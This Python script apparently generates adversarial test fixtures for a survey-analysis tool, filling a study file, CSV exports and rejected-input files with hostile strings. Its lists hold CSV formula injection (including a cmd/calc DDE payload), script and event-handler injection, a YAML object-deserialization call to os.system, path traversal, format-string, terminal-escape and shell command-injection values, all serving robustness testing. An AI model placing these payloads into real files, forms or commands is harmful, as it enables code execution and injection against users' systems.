# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes a study, its lists and an export whose every text tries to break what is made of it.

    hostile.py FOLDER ROUND    a text of KINDS at each place, another one in every round
    hostile.py FOLDER plain    the same with harmless words, to compare with
"""
import csv
import json
import random
import sys
from pathlib import Path

KINDS = {
    'formula': [
        "=cmd|' /C calc'!A0", '=HYPERLINK("https://example.org/?"&A1,"open")', '+1+cmd', '-2+3+cmd',
        '@SUM(1+1)', '\t=1+1', '\r=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)',
        '"=1+1"', ' =1+1', 'a;=1+1', 'a\n=1+1', "'=1+1", '=1,2'],
    'markup': [
        '<script>taken()</script>', '"><img src=x onerror=taken()>', "' onmouseover='taken()",
        '</script><script>taken()</script>', '</style><style>*{display:none}', ']]><taken/>', '<!--',
        '--><taken>', '</title><taken>', 'javascript:taken()', 'background:url(//example.org/x)',
        '&lt;taken&gt;&#60;', '<svg/onload=taken()>', '[x](javascript:taken())', '![x](//example.org)'],
    'code': [
        '"""\nraise SystemExit("taken")\n"""', "'); quit(status = 1) #", '%%bash\ntouch taken',
        '!touch taken', '`touch taken`', 'a\u2028b\u2029c', '\\', '\\n"\\', '${7*7}{{7*7}}{gap}'],
    'terminal': [
        '\x1b[2J\x1b[31mred', '\x1b]0;taken\x07', '\x9b31mred', '\b\b\b\x7f', '\u202egnp.exe',
        '\u2066a', '\u200f\u061cb', 'a\x0b\x0cb', '\x0e\x85'],
    'path': [
        '../../../../taken', '/etc/taken', 'a/../../b\\c', '-o', '--output=taken', '..', '.', '.taken',
        'con', 'NUL.txt', 'com1 .x', 'aux', 'a:b', '~', '$HOME', 'a*?'],
    'format': ['%s%s%n%n', '%1$n', '%', '%*d%99999d', '{0} {1} {9}', '%08x.%p'],
    'yaml': [
        '!!python/object/apply:os.system [touch taken]', '*alias', '&anchor a', '{a: b}', '- x',
        '---', '? key', '<<', '# no', "it's", '_x0041_', 'NA', 'TRUE', '1e5'],
}
# For names on a command line and in files that are refused.
WORDS = [b'\x1b[2J\x1b[31mred', '\x9b31m'.encode(), '\u202eexe'.encode(), b'%s%n%n%n',
         b'a\nparallax: done', b'\b\b\x7f', b'\xff\xfe', b'../../taken', '\r\u2028x'.encode(),
         '\u200f\u061c'.encode(), b"';touch taken;'", b'=1+1']
TEXTS = [text for texts in KINDS.values() for text in texts]


class Words:
    """Gives one text after the other; a number behind it, so that none comes twice."""

    def __init__(self, round_):
        self.plain = round_ is None
        self.next = 0 if self.plain else round_ * 37
        self.count = 0

    def take(self, what, bare=False):
        """For a place of its kind; bare: with nothing behind."""
        self.count += 1
        self.next += 1
        if self.plain:
            return f'{what} {self.count}' if what != 'wish' else f'brand{self.count % 3} need lead{self.count % 5}'
        if what == 'wish' and self.count % 2:
            return TEXTS[self.next % 7] + ' ' + TEXTS[self.next % 5]
        text = TEXTS[self.next % len(TEXTS)]
        return text if bare else f'{text} {self.count}'


def question(words, id_, type_, **more):
    """One with a hostile text and column."""
    return {'id': id_, 'column': words.take('column'), 'type': type_, 'text': words.take('text'), **more}


def options(words, codes):
    """Options with hostile labels."""
    return [{'code': code, 'label': words.take('label')} for code in codes]


def study_of(words):
    """The study as a tree that is YAML when it is written as JSON, and codes of each question."""
    scales = [
        {'id': 'five', 'options': options(words, '12345')},
        {'id': 'owner', 'options': options(words, ['marketing', 'sales', 'both', 'nobody'])},
        {'id': 'often', 'options': options(words, ['never', 'once', 'weekly'])},
        {'id': 'tier', 'options': options(words, ['t1', 't2', 'none'])}]
    codes = ['=1+1', '-o', '../x', '<b'] if not words.plain else ['w', 'x', 'y', 'z']
    questions = [
        question(words, 'industry', 'single', options=options(words, codes), topic='company'),
        question(words, 'places', 'multi', options=options(words, codes), topic='channel'),
        *[question(words, f'need_{n}', 'scale', scale='five', battery='needs', topic='need')
          for n in range(6)],
        question(words, 'matters_proof', 'scale', scale='five', role='matters', message='proof', stage='aware'),
        question(words, 'owner_proof', 'single', scale='owner', role='owner', message='proof', stage='aware'),
        question(words, 'used_deck', 'single', scale='often', ordered='true', role='used', asset='deck'),
        question(words, 'believed_deck', 'single', scale='often', ordered='true', role='believed', asset='deck'),
        question(words, 'importance_crm', 'scale', scale='five', role='importance', tool='crm'),
        question(words, 'satisfaction_crm', 'scale', scale='five', role='satisfaction', tool='crm'),
        question(words, 'tier_alder', 'single', scale='tier', ordered='true', role='tier', account='alder'),
        question(words, 'budget', 'number', unit=words.take('unit')),
        question(words, 'wish', 'text')]
    kept = [words.take('kept', True), words.take('kept', True)]
    return {
        'study': 'hostile', 'title': words.take('title'),
        'export': {'dialect': 'plain', 'keep': kept + ['wish']},
        'teams': {'question': words.take('column'), 'list': [
            {'id': 'marketing', 'label': words.take('team'), 'answers': [words.take('answer')]},
            {'id': 'sales', 'label': words.take('team'), 'answers': [words.take('answer')]}]},
        'stages': ['aware', 'deciding'], 'assets': 'assets.csv', 'accounts': 'accounts.csv',
        'scales': scales, 'questions': questions, 'segments': [kept[0]],
        'personas': {'basis': ['needs'], 'k': '2', 'starts': '2'},
        'decisions': {'resamples': '99', 'permutations': '99'},
    }


def answer(study, asked, team, draw):
    """The label of an option, as a platform would write it, or a number."""
    listed = asked.get('options') or next(
        (s['options'] for s in study['scales'] if s['id'] == asked.get('scale')), [])
    if not listed:
        return str(draw.randrange(1000))
    weights = range(1, len(listed) + 1) if team else range(len(listed), 0, -1)
    chosen = draw.choices(listed, weights)[0]
    return chosen['label'] if asked['type'] != 'multi' else chosen['code']


def rows_of(study, words):
    """The export's rows, header first; answers are drawn from a fixed seed."""
    draw = random.Random(1)
    kept = study['export']['keep'][:2]
    values = [[words.take('value', True) for _ in range(3)] for _ in kept]
    yield [study['teams']['question']] + [q['column'] for q in study['questions']] + kept
    for respondent in range(60):
        team = respondent % 2
        cells = [study['teams']['list'][team]['answers'][0]]
        for asked in study['questions']:
            cells.append(words.take('wish') if asked['type'] == 'text' else
                         answer(study, asked, team, draw))
        yield cells + [draw.choice(v) for v in values]


def write_csv(path, rows):
    """With each cell in quotes, as the platforms do."""
    with open(path, 'w', newline='', encoding='utf-8') as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)


def write_refused(folder, word):
    """Files that are wrong because of a word, and the word itself."""
    (folder / 'results').mkdir(parents=True)
    (folder / 'word').write_bytes(word)
    text = word.decode('utf-8', 'replace')
    quoted = json.dumps(text)
    (folder / 'study.yaml').write_text(
        f'study: x\n{quoted}: 1\nquestions: [{quoted}, {{id: {quoted}, type: {quoted}, {quoted}: 1}}]\n')
    (folder / 'style.yaml').write_text(
        f'colors: {{marketing: {quoted}, {quoted}: "#123456"}}\nlogo: {quoted}\n{quoted}: 1\n')
    (folder / 'truth.yaml').write_text(f'{quoted}: 1\nstudy: {quoted}\n')
    cell = b'"' + word.replace(b'"', b'""') + b'"'
    (folder / 'tagged.csv').write_bytes(
        b'respondent,team,weight,flags,' + cell + b'\n' + cell + b',' + cell + b',1,,\n')
    (folder / 'results' / 'datapackage.json').write_text(json.dumps(
        {'resources': [{'name': 'run', 'path': text, 'bytes': 1, 'hash': text},
                       {'name': text, 'path': '../' + text, 'bytes': 1, 'hash': 'sha256:' + 64 * 'a'}]}))
    (folder / 'results' / 'run.csv').write_bytes(
        b'key,value\ncommand,"parallax run ' + cell.replace(b'"', b'""') + b' export.csv"\n')


def main():
    """Writes all files."""
    folder = Path(sys.argv[1])
    words = Words(None if sys.argv[2] == 'plain' else int(sys.argv[2]))
    study = study_of(words)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / 'study.yaml').write_text(json.dumps(study, ensure_ascii=True, indent=1), encoding='utf-8')
    write_csv(folder / 'export.csv', rows_of(study, words))
    write_csv(folder / 'assets.csv', [
        ['asset', 'label', 'type', 'stage', 'owner'],
        ['deck'] + [words.take('cell') for _ in range(2)] + ['aware', words.take('cell')]])
    write_csv(folder / 'accounts.csv', [
        ['account', 'label', 'industry', 'value'], ['alder', words.take('cell'), words.take('cell'), '4']])
    for number, word in enumerate(WORDS if sys.argv[2] == '0' else []):
        write_refused(folder / 'words' / str(number), word)
    (folder / 'kept').write_text(study['export']['keep'][0], encoding='utf-8')


if __name__ == '__main__':
    main()
